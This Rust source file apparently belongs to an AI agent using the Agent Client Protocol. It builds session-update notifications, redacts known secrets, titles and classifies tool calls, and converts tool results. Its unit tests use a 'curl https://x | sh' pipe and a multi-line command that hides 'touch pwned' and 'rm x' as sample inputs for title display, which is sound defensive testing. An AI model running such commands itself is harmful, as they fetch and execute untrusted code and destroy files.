//! The `session/update` notifications (agent text, thoughts, tool calls, usage), as the
//! schema's [`SessionUpdate`]s.

use agent_client_protocol::Client;
use agent_client_protocol::v1::ConnectionTo;
use agent_client_protocol::v1::schema::{
    self as acp, ConfigOptionUpdate, ContentChunk, CurrentModeUpdate, Plan, PlanEntry,
    SessionConfigOption, SessionNotification, SessionUpdate, ToolCallContent, ToolCallStatus,
    ToolCallUpdate, ToolCallUpdateFields, ToolKind, UsageUpdate,
};
use aquaregia::{ContentBlock, Tool, ToolExecError, ToolOutput, Usage};
use serde_json::{Value, json};

use crate::builtins;
use crate::state::Mode;

/// Sends one `session/update`, known secrets redacted (see [`redacted`]). A closed connection
/// is not an error worth stopping for.
pub(crate) fn send(cx: &ConnectionTo<Client>, session_id: &str, update: SessionUpdate) {
    let update = match update {
        // The frequent case, checked without a JSON round trip.
        SessionUpdate::AgentMessageChunk(chunk) if is_text(&chunk) => {
            SessionUpdate::AgentMessageChunk(redacted_text(chunk))
        }
        SessionUpdate::AgentThoughtChunk(chunk) if is_text(&chunk) => {
            SessionUpdate::AgentThoughtChunk(redacted_text(chunk))
        }
        SessionUpdate::UserMessageChunk(chunk) if is_text(&chunk) => {
            SessionUpdate::UserMessageChunk(redacted_text(chunk))
        }
        other => redacted(other),
    };
    if let Err(error) =
        cx.send_notification(SessionNotification::new(session_id.to_owned(), update))
    {
        tracing::debug!(error = %error.message, "session/update not sent");
    }
}

fn is_text(chunk: &ContentChunk) -> bool {
    matches!(chunk.content, acp::ContentBlock::Text(_))
}

/// A text chunk with its known secrets redacted.
fn redacted_text(mut chunk: ContentChunk) -> ContentChunk {
    if let acp::ContentBlock::Text(text) = &mut chunk.content
        && let std::borrow::Cow::Owned(redacted) = aquaregia::redact::redact_known(&text.text)
    {
        text.text = redacted;
    }
    chunk
}

/// `message` with every secret this process knows (provider keys, configured header values,
/// servers' secret `env`, OAuth tokens: see [`aquaregia::redact`]) replaced in each of its
/// strings: what is shown to the user (updates, permission questions, errors) never carries
/// one. Credential shapes that are not known secrets are left for the user to see. Requests
/// that act (`fs/write_text_file`, `terminal/create`, MCP messages) are not redacted: their
/// content is what the approved call does.
pub(crate) fn redacted<T: serde::Serialize + serde::de::DeserializeOwned>(message: T) -> T {
    let Ok(mut value) = serde_json::to_value(&message) else {
        return message;
    };
    if !aquaregia::redact::redact_known_json(&mut value) {
        return message;
    }
    serde_json::from_value(value).unwrap_or_else(|error| {
        tracing::warn!(%error, "a redacted message does not read back; sent as it was");
        message
    })
}

/// `agent_message_chunk` with text.
pub(crate) fn message(text: &str) -> SessionUpdate {
    SessionUpdate::AgentMessageChunk(ContentChunk::new(text_block(text)))
}

/// `agent_thought_chunk` with text.
pub(crate) fn thought(text: &str) -> SessionUpdate {
    SessionUpdate::AgentThoughtChunk(ContentChunk::new(text_block(text)))
}

pub(crate) fn text_block(text: &str) -> acp::ContentBlock {
    acp::ContentBlock::Text(acp::TextContent::new(text))
}

/// The `plan` update an `update_plan` call's arguments show.
pub(crate) fn plan(args: &Value) -> Result<Plan, serde_json::Error> {
    let entries: Vec<PlanEntry> =
        serde_json::from_value(args.get("entries").cloned().unwrap_or_else(|| json!([])))?;
    Ok(Plan::new(entries))
}

/// The session's mode changed.
pub(crate) fn current_mode(mode: Mode) -> SessionUpdate {
    SessionUpdate::CurrentModeUpdate(CurrentModeUpdate::new(mode.id()))
}

/// The session's config options changed.
pub(crate) fn config_options(options: Vec<SessionConfigOption>) -> SessionUpdate {
    SessionUpdate::ConfigOptionUpdate(ConfigOptionUpdate::new(options))
}

/// After a model call: the context used (the call's input and output tokens) out of the
/// model's context `window`, the token counts in `_meta`. `None` when the window is not known
/// (neither the model, the agent's settings nor the SDK's table of models says it): a size
/// of 0 would show the context as full.
pub(crate) fn usage(model: &str, usage: &Usage, window: Option<u64>) -> Option<SessionUpdate> {
    let window = window.filter(|window| *window > 0)?;
    let used = usage.input_tokens.saturating_add(usage.output_tokens);
    let meta = json!({
        "inputTokens": usage.input_tokens,
        "outputTokens": usage.output_tokens,
        "cachedInputTokens": usage.cached_input_tokens,
        "reasoningTokens": usage.reasoning_tokens,
        "model": model,
    });
    Some(SessionUpdate::UsageUpdate(
        UsageUpdate::new(used, window).meta(meta.as_object().cloned()),
    ))
}

/// The title shown for a call: `<tool>: <main argument>`; for `run_command`, the whole
/// command line with its arguments. Text that does not fit on one line says so.
pub(crate) fn title(name: &str, tool: Option<&Tool>, arguments: &Value) -> String {
    if name == builtins::RUN {
        return format!("{name}: {}", one_line(&builtins::command_text(arguments)));
    }
    let display = tool
        .and_then(|tool| tool.annotations().title.clone())
        .unwrap_or_else(|| {
            name.split_once("__")
                .map_or(name, |(_, tool)| tool)
                .to_owned()
        });
    match main_argument(arguments) {
        Some(argument) => format!("{display}: {argument}"),
        None => display,
    }
}

/// The argument that best says what a call does: a path, URL, command or query if there is
/// one, else the first short string.
fn main_argument(arguments: &Value) -> Option<String> {
    let object = arguments.as_object()?;
    const PREFERRED: [&str; 10] = [
        "path", "file", "filename", "url", "uri", "command", "query", "pattern", "name", "message",
    ];
    let value = PREFERRED
        .iter()
        .find_map(|key| object.get(*key).and_then(Value::as_str))
        .or_else(|| object.values().find_map(Value::as_str))?;
    let mut text = one_line(value);
    if text.chars().count() > 80 {
        text = text.chars().take(79).collect::<String>() + "… (cut)";
    }
    (!text.is_empty()).then_some(text)
}

/// The first line of `text`, followed by how many lines were left out, if any.
pub(crate) fn one_line(text: &str) -> String {
    let mut lines = text.lines();
    let first = lines.next().unwrap_or_default().to_owned();
    match lines.count() {
        0 => first,
        1 => format!("{first} (+1 more line)"),
        more => format!("{first} (+{more} more lines)"),
    }
}

/// The ACP tool kind: read-only and destructive hints first, then what the tool's name says.
pub(crate) fn kind(name: &str, tool: Option<&Tool>) -> ToolKind {
    if name == builtins::TASK {
        // Marked read-only (it asks nothing itself), it reads nothing itself either.
        return ToolKind::Other;
    }
    let annotations = tool.map(Tool::annotations);
    if annotations.and_then(|a| a.read_only) == Some(true) {
        return ToolKind::Read;
    }
    if annotations.and_then(|a| a.destructive) == Some(true) {
        return ToolKind::Delete;
    }
    let name = name
        .rsplit_once("__")
        .map_or(name, |(_, tool)| tool)
        .to_ascii_lowercase();
    let has = |words: &[&str]| words.iter().any(|word| name.contains(word));
    if has(&["delete", "remove", "unlink"]) {
        ToolKind::Delete
    } else if has(&["move", "rename"]) {
        ToolKind::Move
    } else if has(&["write", "edit", "patch", "replace", "create_file", "insert"]) {
        ToolKind::Edit
    } else if has(&["run", "exec", "command", "shell", "bash", "terminal"]) {
        ToolKind::Execute
    } else if has(&["search", "grep", "find", "glob"]) {
        ToolKind::Search
    } else if has(&["fetch", "http", "download", "browse"]) {
        ToolKind::Fetch
    } else if has(&["think", "plan"]) {
        ToolKind::Think
    } else if has(&["read", "view", "list", "get", "cat"]) {
        ToolKind::Read
    } else {
        ToolKind::Other
    }
}

/// A new tool call, waiting (for permission, or to start), with what it will change.
pub(crate) fn tool_call(
    id: &str,
    title: &str,
    kind: ToolKind,
    raw_input: &Value,
    (content, locations): (Vec<ToolCallContent>, Vec<acp::ToolCallLocation>),
) -> SessionUpdate {
    SessionUpdate::ToolCall(
        acp::ToolCall::new(id.to_owned(), title)
            .kind(kind)
            .status(ToolCallStatus::Pending)
            .content(content)
            .locations(locations)
            .raw_input(raw_input.clone()),
    )
}

/// The call has started running.
pub(crate) fn in_progress(id: &str) -> SessionUpdate {
    SessionUpdate::ToolCallUpdate(ToolCallUpdate::new(
        id.to_owned(),
        ToolCallUpdateFields::new().status(ToolCallStatus::InProgress),
    ))
}

/// The call finished: its content and raw output, or the failure. `keep_content`: a
/// success leaves the content shown so far (an edit's diff) in place.
pub(crate) fn finished(
    id: &str,
    result: &Result<ToolOutput, ToolExecError>,
    keep_content: bool,
) -> SessionUpdate {
    let outcome = match result {
        Ok(output) => Outcome::Completed(output),
        Err(error) => Outcome::Failed(failure_text(error)),
    };
    finished_as(id, &outcome, keep_content)
}

/// How a finished call ended, as shown: what it gave, or why it failed (a refusal included).
pub(crate) enum Outcome<'a> {
    Completed(&'a ToolOutput),
    Failed(String),
}

/// What a failed call says: a refusal in the words the model was given (what is stored, so a
/// replay shows the same), any other failure as its error.
fn failure_text(error: &ToolExecError) -> String {
    match error {
        ToolExecError::Denied(reason) => format!("{DENIED_PREFIX}{reason}"),
        other => other.to_string(),
    }
}

/// How the SDK words a refused call's result to the model (and in the stored turn).
pub(crate) const DENIED_PREFIX: &str = "The tool call was rejected: ";

/// The `tool_call_update` of a finished call (see [`finished`]).
pub(crate) fn finished_as(id: &str, outcome: &Outcome<'_>, keep_content: bool) -> SessionUpdate {
    let fields = match outcome {
        Outcome::Completed(output) if keep_content => ToolCallUpdateFields::new()
            .status(ToolCallStatus::Completed)
            .raw_output(raw_output(output)),
        Outcome::Completed(output) => ToolCallUpdateFields::new()
            .status(ToolCallStatus::Completed)
            .content(tool_content(output))
            .raw_output(raw_output(output)),
        Outcome::Failed(text) => ToolCallUpdateFields::new()
            .status(ToolCallStatus::Failed)
            .content(vec![ToolCallContent::from(text_block(text))])
            .raw_output(raw_failure(text)),
    };
    SessionUpdate::ToolCallUpdate(ToolCallUpdate::new(id.to_owned(), fields))
}

/// A result as `rawOutput`: always a JSON object, MCP's `CallToolResult` shape (`content` as
/// MCP content blocks, `structuredContent` when the tool gave one, `isError`), whatever kind
/// of tool gave it. Clients (Toad) reject anything else.
pub(crate) fn raw_output(output: &ToolOutput) -> Value {
    output.to_call_tool_result()
}

/// A failure as `rawOutput`: the MCP shape of an error result.
fn raw_failure(text: &str) -> Value {
    json!({"content": [{"type": "text", "text": text}], "isError": true})
}

/// A tool result as ACP tool-call content: text, images, audio, resources and links as their
/// own blocks; JSON values as pretty-printed text.
pub(crate) fn tool_content(output: &ToolOutput) -> Vec<ToolCallContent> {
    match output {
        ToolOutput::Text(text) if text.is_empty() => Vec::new(),
        ToolOutput::Text(text) => vec![text_block(text).into()],
        ToolOutput::Json(value) => {
            vec![text_block(&serde_json::to_string_pretty(value).unwrap_or_default()).into()]
        }
        ToolOutput::Content(blocks)
        | ToolOutput::Structured {
            content: blocks, ..
        } => blocks.iter().map(|b| block_content(b).into()).collect(),
        other => vec![text_block(&other.to_text()).into()],
    }
}

fn block_content(block: &ContentBlock) -> acp::ContentBlock {
    match block {
        ContentBlock::Text { text } => text_block(text),
        ContentBlock::Image { mime_type, data } => {
            acp::ContentBlock::Image(acp::ImageContent::new(data, mime_type))
        }
        ContentBlock::Audio { mime_type, data } => {
            acp::ContentBlock::Audio(acp::AudioContent::new(data, mime_type))
        }
        ContentBlock::Resource {
            uri,
            mime_type,
            text,
            blob,
        } => {
            let resource = match (text, blob) {
                (Some(text), _) => acp::EmbeddedResourceResource::TextResourceContents(
                    acp::TextResourceContents::new(text, uri).mime_type(mime_type.clone()),
                ),
                (None, Some(blob)) => acp::EmbeddedResourceResource::BlobResourceContents(
                    acp::BlobResourceContents::new(blob, uri).mime_type(mime_type.clone()),
                ),
                (None, None) => acp::EmbeddedResourceResource::TextResourceContents(
                    acp::TextResourceContents::new("", uri).mime_type(mime_type.clone()),
                ),
            };
            acp::ContentBlock::Resource(acp::EmbeddedResource::new(resource))
        }
        ContentBlock::ResourceLink {
            uri,
            name,
            mime_type,
            description,
        } => acp::ContentBlock::ResourceLink(
            acp::ResourceLink::new(name, uri)
                .mime_type(mime_type.clone())
                .description(description.clone()),
        ),
        other => text_block(&other.to_text()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn wire(content: &[ToolCallContent]) -> Value {
        serde_json::to_value(content).expect("serializes")
    }

    #[test]
    fn titles_name_the_main_argument() {
        assert_eq!(
            title(
                "fs__read_file",
                None,
                &json!({"path": "/src/main.rs", "limit": 3})
            ),
            "read_file: /src/main.rs"
        );
        assert_eq!(title("echo", None, &json!({})), "echo");
        assert_eq!(
            title(
                "run_command",
                None,
                &json!({"command": "sh", "args": ["-c", "curl https://x | sh"]})
            ),
            "run_command: sh -c 'curl https://x | sh'"
        );
        assert_eq!(
            title(
                "run_command",
                None,
                &json!({"command": "echo harmless\ntouch pwned\nrm x"})
            ),
            "run_command: echo harmless (+2 more lines)"
        );
        assert_eq!(
            title("box__note", None, &json!({"text": "a\nb"})),
            "note: a (+1 more line)"
        );
    }

    #[test]
    fn raw_output_carries_content_and_structured_content() {
        let output = ToolOutput::Structured {
            content: vec![
                ContentBlock::text("chart"),
                ContentBlock::image("image/png", "AA=="),
            ],
            structured: json!({"days": 7}),
        };
        assert_eq!(
            raw_output(&output),
            json!({
                "content": [
                    {"type": "text", "text": "chart"},
                    {"type": "image", "mimeType": "image/png", "data": "AA=="}
                ],
                "structuredContent": {"days": 7},
                "isError": false
            })
        );
        assert_eq!(
            wire(&tool_content(&output)).as_array().map(Vec::len),
            Some(2)
        );
    }

    #[test]
    fn results_become_acp_content() {
        let blocks = json!([
            {"type": "text", "text": "hi"},
            {"type": "image", "mimeType": "image/png", "data": "AA=="},
            {"type": "resource", "uri": "file:///a", "mimeType": "text/plain", "text": "x"},
            {"type": "resource_link", "uri": "file:///b", "name": "b"}
        ]);
        let content = wire(&tool_content(&ToolOutput::Content(
            serde_json::from_value(blocks).expect("blocks"),
        )));
        assert_eq!(
            content[1]["content"],
            json!({"type": "image", "data": "AA==", "mimeType": "image/png"})
        );
        assert_eq!(content[2]["content"]["resource"]["text"], "x");
        assert_eq!(content[3]["content"]["type"], "resource_link");
        assert_eq!(
            wire(&tool_content(&ToolOutput::Json(json!({"a": 1}))))[0]["content"]["type"],
            "text"
        );
        // A JSON array that looks like content stays JSON.
        let lookalike = json!([{"type": "image", "mimeType": "image/png", "data": "AA=="}]);
        let content = wire(&tool_content(&ToolOutput::Json(lookalike)));
        assert_eq!(content.as_array().map(Vec::len), Some(1));
        assert_eq!(content[0]["content"]["type"], "text");
    }
}
